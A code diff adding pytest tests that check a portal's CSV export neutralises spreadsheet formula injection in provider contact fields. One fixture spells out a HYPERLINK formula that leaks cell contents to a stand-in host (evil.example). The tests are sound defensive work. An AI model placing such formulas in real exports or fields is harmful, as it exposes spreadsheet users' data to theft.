@@ -97,6 +97,31 @@ def test_csv_export(client, register_data):
     assert "Oslo" in rows[1][5]  # departments with municipality
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client, start):
+    """Contact fields a provider sets (change notice) reach the CSV: never as a formula."""
+    formula = start + 'HYPERLINK("https://evil.example/?leak="&A1;"Klikk")'
+    _approved("Formel BHT AS", contact_person=formula, phone=start + "47 22 00 00 00", email="post@formel.test")
+    rows = list(csv.reader(io.StringIO(client.get(CSV).content.decode("utf-8-sig")), delimiter=";"))
+    row = next(r for r in rows if r[0] == "Formel BHT AS")
+    assert row[6] == "'" + formula
+    assert row[8] == "'" + start + "47 22 00 00 00"
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
+
+
+def test_safe_csv_leaves_ordinary_text_alone():
+    from approvals.safe_csv import neutralise
+
+    assert [neutralise(v) for v in ("Oslo", "923609016", "", None, 3, "a=b")] == [
+        "Oslo",
+        "923609016",
+        "",
+        "",
+        "3",
+        "a=b",
+    ]
+
+
 def test_api_providers(client, register_data):
     response = client.get(API)
     assert response.status_code == 200
@@ -116,3 +141,19 @@ def test_api_in_openapi_schema(client):
     assert response.status_code == 200
     body = response.content.decode()
     assert "/api/v1/providers" in body or '"/providers"' in body or "/providers:" in body
+
+
+def test_every_csv_the_portal_writes_goes_through_the_safe_writer():
+    """csv.writer only in the safe writer, and in the register import's COPY buffer (data for
+    PostgreSQL, never opened in a spreadsheet)."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2]
+    allowed = {"approvals/safe_csv.py", "enterprises/register.py"}
+    users = {
+        str(p.relative_to(root))
+        for p in root.glob("*/**/*.py")
+        if not str(p.relative_to(root)).startswith((".venv", "tests", "bench"))
+        and ("csv.writer(" in (text := p.read_text()) or "csv.DictWriter(" in text)
+    }
+    assert users <= allowed, users - allowed
